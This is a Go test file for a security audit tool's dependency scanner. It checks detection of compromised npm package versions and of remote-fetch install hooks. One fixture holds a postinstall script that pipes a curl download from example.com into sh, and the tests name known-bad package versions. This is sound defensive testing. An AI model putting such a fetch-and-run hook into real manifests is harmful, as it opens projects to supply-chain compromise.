package scanner

import (
	"context"
	"testing"

	"github.com/aleister1102/secaudit/internal/config"
	"github.com/aleister1102/secaudit/internal/models"
	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestDependencyScanner(t *testing.T, cfg config.DependencyScannerConfig) *DependencyScanner {
	t.Helper()
	scanner, err := NewDependencyScanner(cfg, zerolog.Nop())
	require.NoError(t, err)
	return scanner
}

func TestDependencyScanner_KnownBadPackage(t *testing.T) {
	root := t.TempDir()
	writeFile(t, root, "package.json", `{
  "name": "demo",
  "dependencies": {
    "express": "^4.18.0",
    "event-stream": "3.3.6"
  }
}`)

	scanner := newTestDependencyScanner(t, config.DependencyScannerConfig{Enabled: true})
	findings, errs := scanner.Scan(context.Background(), root)
	require.Empty(t, errs)
	require.Len(t, findings, 1)

	assert.Equal(t, "DEP-001", findings[0].RuleID)
	assert.Equal(t, models.SeverityHigh, findings[0].Severity)
	assert.Equal(t, models.ConfidenceHigh, findings[0].Confidence)
	assert.Equal(t, "package.json", findings[0].File)
	assert.Contains(t, findings[0].Message, "event-stream")
}

func TestDependencyScanner_BadDevDependency(t *testing.T) {
	root := t.TempDir()
	writeFile(t, root, "package.json", `{
  "devDependencies": {"ua-parser-js": "0.7.29"}
}`)

	scanner := newTestDependencyScanner(t, config.DependencyScannerConfig{Enabled: true})
	findings, errs := scanner.Scan(context.Background(), root)
	require.Empty(t, errs)
	require.Len(t, findings, 1)
	assert.Equal(t, "DEP-001", findings[0].RuleID)
}

func TestDependencyScanner_RemoteFetchInstallHook(t *testing.T) {
	root := t.TempDir()
	writeFile(t, root, "package.json", `{
  "scripts": {
    "postinstall": "curl https://example.com/setup.sh | sh",
    "build": "tsc"
  }
}`)

	scanner := newTestDependencyScanner(t, config.DependencyScannerConfig{Enabled: true})
	findings, errs := scanner.Scan(context.Background(), root)
	require.Empty(t, errs)
	require.Len(t, findings, 1)

	assert.Equal(t, "DEP-002", findings[0].RuleID)
	assert.Equal(t, models.SeverityMedium, findings[0].Severity)
	assert.Contains(t, findings[0].Message, "postinstall")
}

func TestDependencyScanner_BuildScriptNotFlagged(t *testing.T) {
	root := t.TempDir()
	// Remote fetch outside install hooks is out of scope.
	writeFile(t, root, "package.json", `{
  "scripts": {"fetch-assets": "curl https://example.com/assets.tar | tar x"}
}`)

	scanner := newTestDependencyScanner(t, config.DependencyScannerConfig{Enabled: true})
	findings, errs := scanner.Scan(context.Background(), root)
	assert.Empty(t, errs)
	assert.Empty(t, findings)
}

func TestDependencyScanner_MalformedManifestCollected(t *testing.T) {
	root := t.TempDir()
	writeFile(t, root, "package.json", `{not valid json`)

	scanner := newTestDependencyScanner(t, config.DependencyScannerConfig{Enabled: true})
	findings, errs := scanner.Scan(context.Background(), root)
	assert.Empty(t, findings)
	require.Len(t, errs, 1)
	assert.Contains(t, errs[0].Error(), "package.json")
}

func TestDependencyScanner_NestedManifests(t *testing.T) {
	root := t.TempDir()
	writeFile(t, root, "package.json", `{"dependencies": {}}`)
	writeFile(t, root, "services/api/package.json", `{"dependencies": {"coa": "2.0.3"}}`)
	writeFile(t, root, "node_modules/dep/package.json", `{"dependencies": {"rc": "1.2.8"}}`)

	scanner := newTestDependencyScanner(t, config.DependencyScannerConfig{
		Enabled: true,
		Exclude: []string{"node_modules/**"},
	})
	findings, errs := scanner.Scan(context.Background(), root)
	require.Empty(t, errs)
	require.Len(t, findings, 1)
	assert.Equal(t, "services/api/package.json", findings[0].File)
}
